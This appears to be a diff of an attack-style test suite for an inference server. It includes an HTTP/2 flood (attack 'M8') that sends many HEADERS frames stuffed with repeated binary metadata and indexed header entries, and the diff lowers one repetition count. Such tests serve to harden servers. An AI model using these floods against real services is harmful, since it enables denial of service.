@@ -219,7 +219,7 @@ async def answers_of_many_tokens(server: Attacked) -> None:
     await _post(server, "/v1/infer", b'{"model":"classifier","input":{"tokenization":{"text":"' + text + b'"}}}')
 
 
-@attack("M8", "binary metadata without a key, of which a few kilobytes are millions of values", is_quick=True)
+@attack("M8", "binary metadata without a key, of which a few kilobytes are a million values", is_quick=True)
 async def metadata_of_many_values(server: Attacked) -> None:
     def attack_once() -> None:
         name, value = b"x-bin", b"," * 3900
@@ -231,7 +231,7 @@ async def metadata_of_many_values(server: Attacked) -> None:
             connection.sendall(frames.PREFACE + frames.settings() + frames.frame(frames.SETTINGS, frames.ACK))
             connection.sendall(frames.frame(frames.HEADERS, flags, 1, head + entry))
             for number in range(3, 41, 2):
-                connection.sendall(frames.frame(frames.HEADERS, flags, number, head + bytes([0x80 | 62]) * 260))
+                connection.sendall(frames.frame(frames.HEADERS, flags, number, head + bytes([0x80 | 62]) * 60))
             time.sleep(0.2)
 
     await asyncio.to_thread(attack_once)
